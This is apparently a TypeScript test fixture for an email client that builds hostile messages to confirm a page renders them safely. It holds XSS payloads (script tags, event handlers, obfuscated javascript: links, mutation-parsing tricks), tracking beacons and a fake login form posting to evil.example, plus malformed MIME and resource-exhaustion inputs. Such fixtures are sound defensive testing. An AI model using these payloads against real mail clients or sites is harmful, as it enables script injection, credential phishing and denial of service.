/** Messages that a page must show without harm (S6). Whatever one of them fetched, ran or opened would name `evil.example` or `owned`. */
const head = (subject: string, ...more: readonly string[]): string =>
  ['From: Mallory <mallory@evil.example>', 'To: anna@example.com', `Subject: ${subject}`, ...more].join(
    '\r\n',
  );

function html(subject: string, body: string): Buffer {
  return Buffer.from(`${head(subject, 'Content-Type: text/html; charset=utf-8')}\r\n\r\n${body}`);
}

/** By subject. The text `harmless` is in each of those with HTML, and has to be seen. */
export const hostileHtml: Readonly<Record<string, string>> = {
  script:
    '<p>harmless</p><script>parent.owned = true; fetch("https://evil.example/script")</script><img src=x onerror="parent.owned = true"><svg onload="parent.owned = true"><script>parent.owned = true</script></svg>',
  'remote image':
    '<p>harmless</p><img src="https://evil.example/pixel.gif" alt="a picture"><picture><source srcset="https://evil.example/set"></picture><video src="https://evil.example/v" poster="https://evil.example/p"></video><link rel=stylesheet href="https://evil.example/style"><link rel=prefetch href="https://evil.example/pre"><table background="https://evil.example/back"><tr><td>cell</td></tr></table><input type=image src="https://evil.example/input">',
  form: '<form action="https://evil.example/form" method=post><p>harmless</p><input name=password autofocus><button>Sign in</button></form>',
  'javascript link':
    '<p>harmless</p><a id=link href="javascript:parent.owned = true">click</a> <a id=out target=_top href="https://evil.example/out">out</a><a href=" java&#10;script:parent.owned=true">x</a><map><area href="https://evil.example/area" shape=default></map>',
  'covering style':
    '<style>* { position: fixed; inset: 0; background: url(https://evil.example/css) } @import "https://evil.example/import";</style><div style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/attr)">harmless</div>',
  'frames and refresh':
    '<meta http-equiv=refresh content="0;url=https://evil.example/refresh"><base href="https://evil.example/"><iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object><embed src="https://evil.example/embed"><p>harmless</p>',
  'odd parsing':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.owned=true&gt;"><noscript><p title="</noscript><img src=x onerror=parent.owned=true>"></noscript><template><script>parent.owned=true</script></template></table></mtext></math><p>harmless</p></body><script>parent.owned=true</script>',
  'deep nesting': `${'<div>'.repeat(5_000)}harmless${'</div>'.repeat(5_000)}`,
  'many elements': `<p>harmless</p>${'<b>x</b>'.repeat(60_000)}`,
};

const parts = (count: number): string =>
  Array.from({ length: count }, (_, part) => `--b\r\nContent-Type: text/plain\r\n\r\npart ${part}\r\n`).join(
    '',
  );

export const hostileMessages: Readonly<Record<string, Buffer>> = {
  ...Object.fromEntries(Object.entries(hostileHtml).map(([subject, body]) => [subject, html(subject, body)])),
  'a header of 1 MB': Buffer.from(
    `${head('a header of 1 MB', `X-Long: ${`${'a'.repeat(900)}\r\n `.repeat(1_200)}end`)}\r\n\r\nharmless`,
  ),
  'broken MIME': Buffer.from(
    `${head('broken MIME', 'Content-Type: multipart/mixed; boundary="b')}\r\n\r\n--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b--b\r\n--c\r\nContent-Transfer-Encoding: base64\r\nContent-Type: text/html; charset=no-such-charset\r\n\r\n\u0000=?=!\r\n`,
    'latin1',
  ),
  'ten thousand parts': Buffer.from(
    `${head('ten thousand parts', 'Content-Type: multipart/mixed; boundary=b')}\r\n\r\n${parts(10_000)}--b--\r\n`,
  ),
  'parts in parts': Buffer.from(
    `${head('parts in parts', 'Content-Type: multipart/mixed; boundary=b0')}\r\n\r\n${Array.from({ length: 200 }, (_, level) => `--b${level}\r\nContent-Type: multipart/mixed; boundary=b${level + 1}\r\n\r\n`).join('')}--b200\r\n\r\nharmless`,
  ),
  'long lines': Buffer.from(
    `${head('long lines', 'Content-Type: text/html')}\r\n\r\nharmless ${'<a '.repeat(150_000)}`,
  ),
  'many addresses': Buffer.from(
    `${head('many addresses', `Cc: ${Array.from({ length: 5_000 }, (_, one) => `"${'('.repeat(5)}" <a${one}@evil.example>`).join(',\r\n ')}`)}\r\n\r\nharmless`,
  ),
  'not a message': Buffer.from(Array.from({ length: 3_000 }, (_, at) => (at * 37) % 256)),
  nothing: Buffer.alloc(0),
};
